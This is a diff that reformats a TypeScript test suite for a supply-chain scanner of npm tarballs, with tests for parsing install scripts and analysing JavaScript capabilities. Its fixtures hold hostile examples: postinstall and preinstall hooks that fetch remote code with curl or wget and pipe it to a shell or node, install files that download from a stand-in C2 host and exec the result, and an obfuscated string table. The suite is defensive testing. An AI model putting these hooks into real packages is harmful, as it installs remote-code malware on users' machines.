@@ -17,7 +17,10 @@ afterAll(async () => {
   await rm(dir, { recursive: true, force: true });
 });
 
-async function signalsOf(pkg: BuiltPackage, opts: { registryDoc?: Record<string, unknown> | null; declaredLicence?: string | null } = {}): Promise<Finding[]> {
+async function signalsOf(
+  pkg: BuiltPackage,
+  opts: { registryDoc?: Record<string, unknown> | null; declaredLicence?: string | null } = {},
+): Promise<Finding[]> {
   const file = join(dir, `${pkg.name}-${pkg.version}.tgz`);
   await writeFile(file, pkg.tarball);
   return withExtracted(file, { maxEntries: 1000, maxUnpackedBytes: 50 * 1024 * 1024 }, async (x) =>
@@ -43,7 +46,12 @@ function peFile(): Buffer {
 }
 
 function obfuscatedSource(): string {
-  const strings = ['\\x68\\x74\\x74\\x70\\x73', '\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73', '\\x65\\x78\\x65\\x63', '\\x74\\x6f\\x53\\x74\\x72\\x69\\x6e\\x67'];
+  const strings = [
+    '\\x68\\x74\\x74\\x70\\x73',
+    '\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73',
+    '\\x65\\x78\\x65\\x63',
+    '\\x74\\x6f\\x53\\x74\\x72\\x69\\x6e\\x67',
+  ];
   const table = Array.from({ length: 30 }, (_, i) => `'${strings[i % strings.length]}'`).join(',');
   return (
     `var _0x4f2a=[${table}];` +
@@ -55,7 +63,11 @@ function obfuscatedSource(): string {
 
 describe('supply-chain signals on built tarballs', () => {
   it('finds a postinstall that downloads code and pipes it to a shell', async () => {
-    const pkg = buildPackage({ name: 'dl-shell', version: '1.0.0', manifest: { scripts: { postinstall: 'curl -fsSL https://payload.example.test/x.sh | sh' } } });
+    const pkg = buildPackage({
+      name: 'dl-shell',
+      version: '1.0.0',
+      manifest: { scripts: { postinstall: 'curl -fsSL https://payload.example.test/x.sh | sh' } },
+    });
     const f = await signalsOf(pkg);
     expect(ids(f)).toEqual(expect.arrayContaining(['install-script', 'install-script-download-exec']));
     const dl = f.find((x) => x.id === 'install-script-download-exec')!;
@@ -64,7 +76,11 @@ describe('supply-chain signals on built tarballs', () => {
   });
 
   it('sees a download substituted into an interpreter', async () => {
-    const pkg = buildPackage({ name: 'dl-subst', version: '1.0.0', manifest: { scripts: { preinstall: 'node -e "$(wget -qO- http://x.example.test/p)"' } } });
+    const pkg = buildPackage({
+      name: 'dl-subst',
+      version: '1.0.0',
+      manifest: { scripts: { preinstall: 'node -e "$(wget -qO- http://x.example.test/p)"' } },
+    });
     expect(ids(await signalsOf(pkg))).toContain('install-script-download-exec');
   });
 
@@ -74,12 +90,16 @@ describe('supply-chain signals on built tarballs', () => {
       version: '1.0.0',
       manifest: { scripts: { postinstall: 'node scripts/setup.js' } },
       files: {
-        'scripts/setup.js': "const get = require('./lib/get');\nconst { exec } = require('node:child_process');\nget((code) => exec(code));\n",
-        'scripts/lib/get.js': "const https = require('https');\nmodule.exports = (cb) => https.get('https://c2.example.test/p', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => cb(d)); });\n",
+        'scripts/setup.js':
+          "const get = require('./lib/get');\nconst { exec } = require('node:child_process');\nget((code) => exec(code));\n",
+        'scripts/lib/get.js':
+          "const https = require('https');\nmodule.exports = (cb) => https.get('https://c2.example.test/p', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => cb(d)); });\n",
       },
     });
     const f = await signalsOf(pkg);
-    const critical = f.filter((x) => x.id === 'install-code-download-exec' || x.id === 'install-code-network' || x.id === 'install-code-shell');
+    const critical = f.filter(
+      (x) => x.id === 'install-code-download-exec' || x.id === 'install-code-network' || x.id === 'install-code-shell',
+    );
     expect(critical.map((x) => x.file)).toEqual(expect.arrayContaining(['scripts/setup.js', 'scripts/lib/get.js']));
     expect(f.find((x) => x.id === 'install-code-network')!.evidence).toMatch(/line 1: require\('https'\)/);
   });
@@ -88,7 +108,11 @@ describe('supply-chain signals on built tarballs', () => {
     const pkg = buildPackage({
       name: 'native',
       version: '1.0.0',
-      files: { 'prebuilds/linux-x64/addon.node': ELF, 'bin/helper.exe': peFile(), 'bin/data.bin': Buffer.from('plain data, not code') },
+      files: {
+        'prebuilds/linux-x64/addon.node': ELF,
+        'bin/helper.exe': peFile(),
+        'bin/data.bin': Buffer.from('plain data, not code'),
+      },
     });
     const f = await signalsOf(pkg);
     const bins = f.filter((x) => x.id === 'native-binary');
@@ -113,7 +137,8 @@ describe('supply-chain signals on built tarballs', () => {
       version: '1.2.3',
       manifest: { dependencies: { 'left-pad': '^1.3.0' }, scripts: { test: 'node test.js', build: 'tsc' } },
       files: {
-        'lib/util.js': "'use strict';\nconst path = require('path');\nexports.join = (...p) => path.join(...p);\nexports.re = /a+/.exec('aaa');\n",
+        'lib/util.js':
+          "'use strict';\nconst path = require('path');\nexports.join = (...p) => path.join(...p);\nexports.re = /a+/.exec('aaa');\n",
         'README.md': '# clean\n\nNothing to see.\n',
         'lib/data.json': JSON.stringify({ words: 'the quick brown fox jumps over the lazy dog '.repeat(20) }),
       },
@@ -133,11 +158,20 @@ describe('supply-chain signals on built tarballs', () => {
     const pkg = buildPackage({
       name: 'confused',
       version: '2.0.0',
-      manifest: { license: 'GPL-3.0-only', dependencies: { a: 'github:someone/a', b: 'http://files.example.test/b.tgz', c: 'file:../c', d: '^1.0.0' } },
+      manifest: {
+        license: 'GPL-3.0-only',
+        dependencies: { a: 'github:someone/a', b: 'http://files.example.test/b.tgz', c: 'file:../c', d: '^1.0.0' },
+      },
     });
     const registryDoc = { name: 'confused', version: '2.0.0', license: 'MIT', dependencies: { d: '^1.0.0' } };
     const f = await signalsOf(pkg, { registryDoc, declaredLicence: 'MIT' });
-    expect(ids(f).sort()).toEqual(['file-dependency', 'git-dependency', 'licence-mismatch', 'manifest-mismatch', 'url-dependency']);
+    expect(ids(f).sort()).toEqual([
+      'file-dependency',
+      'git-dependency',
+      'licence-mismatch',
+      'manifest-mismatch',
+      'url-dependency',
+    ]);
     expect(f.find((x) => x.id === 'url-dependency')!.severity).toBe('high');
     expect(f.find((x) => x.id === 'manifest-mismatch')!.title).toMatch(/dependencies/);
   });
@@ -152,13 +186,15 @@ describe('supply-chain signals on built tarballs', () => {
 describe('install script tokenising', () => {
   const cmds = (s: string) => parseScript(s).map((p) => p.commands.map((c) => c.join(' ')));
   it('splits pipelines and commands, dropping assignments, wrappers and redirections', () => {
-    expect(cmds('FOO=1 sudo curl -s "https://x.example.test/a b" | bash -s -- arg && echo done > /dev/null 2>&1')).toEqual([
-      ['curl -s https://x.example.test/a b', 'bash -s -- arg'],
-      ['echo done'],
-    ]);
+    expect(
+      cmds('FOO=1 sudo curl -s "https://x.example.test/a b" | bash -s -- arg && echo done > /dev/null 2>&1'),
+    ).toEqual([['curl -s https://x.example.test/a b', 'bash -s -- arg'], ['echo done']]);
   });
   it('sees inside command substitutions', () => {
-    expect(cmds('node -e "$(wget -qO- http://x.example.test/p)"')).toEqual([['node -e $(wget -qO- http://x.example.test/p)'], ['wget -qO- http://x.example.test/p']]);
+    expect(cmds('node -e "$(wget -qO- http://x.example.test/p)"')).toEqual([
+      ['node -e $(wget -qO- http://x.example.test/p)'],
+      ['wget -qO- http://x.example.test/p'],
+    ]);
   });
   it('classifies dependency specs', () => {
     expect(nonRegistrySpec('^1.2.3')).toBeNull();
@@ -168,14 +204,26 @@ describe('install script tokenising', () => {
     expect(nonRegistrySpec('link:../x')?.kind).toBe('file');
   });
   it('compares manifests ignoring key order and empty objects', () => {
-    expect(manifestMismatch({ name: 'a', version: '1.0.0', scripts: {}, dependencies: { x: '1', y: '2' } }, { name: 'a', version: '1.0.0', dependencies: { y: '2', x: '1' } }, false)).toEqual([]);
+    expect(
+      manifestMismatch(
+        { name: 'a', version: '1.0.0', scripts: {}, dependencies: { x: '1', y: '2' } },
+        { name: 'a', version: '1.0.0', dependencies: { y: '2', x: '1' } },
+        false,
+      ),
+    ).toEqual([]);
   });
 });
 
 describe('JavaScript capability analysis', () => {
   it('sees eval, new Function, fetch and child_process through the AST, not text', () => {
-    const a = analyseJs("// require('child_process') in a comment is not a call\nconst s = \"eval('x')\";\nfetch(u);\nnew Function('return 1')();\nimport('https');\n");
-    expect(a.capabilities.map((c) => `${c.kind}:${c.what}`)).toEqual(['network:fetch', 'eval:new Function', 'network:https']);
+    const a = analyseJs(
+      "// require('child_process') in a comment is not a call\nconst s = \"eval('x')\";\nfetch(u);\nnew Function('return 1')();\nimport('https');\n",
+    );
+    expect(a.capabilities.map((c) => `${c.kind}:${c.what}`)).toEqual([
+      'network:fetch',
+      'eval:new Function',
+      'network:https',
+    ]);
   });
   it('does not mistake RegExp#exec for running a command', () => {
     expect(analyseJs('/a/.exec("a");').capabilities).toEqual([]);
